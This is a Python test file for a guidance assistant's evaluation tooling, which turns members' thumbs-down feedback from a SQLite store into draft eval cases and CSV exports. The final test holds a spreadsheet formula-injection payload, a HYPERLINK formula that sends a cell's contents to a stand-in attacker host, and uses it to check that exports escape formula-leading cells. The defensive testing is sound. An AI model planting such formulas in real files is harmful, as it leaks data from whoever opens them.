"""Draft eval cases from members' thumbs-down feedback, read from a real SQLite feedback database."""

from __future__ import annotations

import pytest

from guidance.evaluation.dataset import EvalSetError, parse_eval_set
from guidance.evaluation.feedback_drafts import draft_case, drafts_csv, thumbs_down
from guidance.evaluation.spreadsheet import safe_row
from guidance.feedback import FeedbackStore
from guidance.models import Answer, Citation

PLANNING = Citation(doc_id="social-media-guidance", doc_title="Social Media Guidance", section="7.2",
                    section_title="Top Tips", quote="If in doubt, leave it out.")


@pytest.fixture
def feedback_db(tmp_path):
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    store.record(Answer(question="Can I tweet about planning?", status="answered", answer="…", citations=[PLANNING, PLANNING]),
                 "down", "build-1", "Wrong section")
    store.record(Answer(question="Is the guidance useful?", status="answered", answer="…"), "up", "build-1")
    store.record(Answer(question="what is the parking allowance", status="not_covered", answer="Not covered."), "down", "build-1")
    return store.path


def test_only_thumbs_down_rows_become_drafts(feedback_db, tmp_path):
    rows = thumbs_down(feedback_db)
    assert [row["question"] for row in rows] == ["Can I tweet about planning?", "what is the parking allowance"]
    first = draft_case(rows[0])
    assert first["id"] == f"feedback-{rows[0]['id']}"
    assert first["notes"].endswith("(Wrong section). The assistant's answer was answered, citing social-media-guidance#7.2.")
    assert draft_case(rows[1])["notes"].endswith("(no comment). The assistant's answer was not covered, citing nothing.")
    assert thumbs_down(tmp_path / "never-created.sqlite3") == []


def test_a_draft_must_be_completed_before_it_can_run(feedback_db):
    drafts = drafts_csv(thumbs_down(feedback_db))
    with pytest.raises(EvalSetError, match=r"drafts\.csv, line 2, field 'behaviour': Field required"):
        parse_eval_set(drafts, ".csv", "drafts.csv")

    lines = drafts.splitlines()
    header, rows = lines[0], lines[1:]
    completed = "\n".join([
        header,
        rows[0].replace(",,,,,", ",social-media-guidance#3.3,answer,predetermin,,", 1),
        rows[1].replace(",,,,,", ",,decline,,,", 1),
    ]) + "\n"
    cases = parse_eval_set(completed, ".csv", "drafts.csv")
    assert [(c.behaviour, c.expected_sections, c.must_mention) for c in cases] == [
        ("answer", ["social-media-guidance#3.3"], ["predetermin"]), ("decline", [], []),
    ]


def test_a_question_shaped_like_a_formula_never_runs_in_a_spreadsheet_and_reads_back_as_asked():
    """A member asking '=HYPERLINK(…)' and rating the answer down put a live formula into the officers' download."""
    import csv
    import io

    asked = '=HYPERLINK("https://evil.example/?d="&B2,"Open the guidance")'
    row = {"id": 7, "question": asked, "comment": "@everyone look", "status": "answered", "citations": [],
           "created_at": "2026-12-06T10:00:00"}
    cells = [cell for line in csv.reader(io.StringIO(drafts_csv([row]))) for cell in line]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))], cells

    completed = {**draft_case(row), "behaviour": "decline"}  # as an officer completes the draft and uploads it
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(completed))
    writer.writeheader()
    writer.writerow(safe_row(completed))
    [case] = parse_eval_set(out.getvalue(), ".csv", "drafts.csv")
    assert case.question == asked
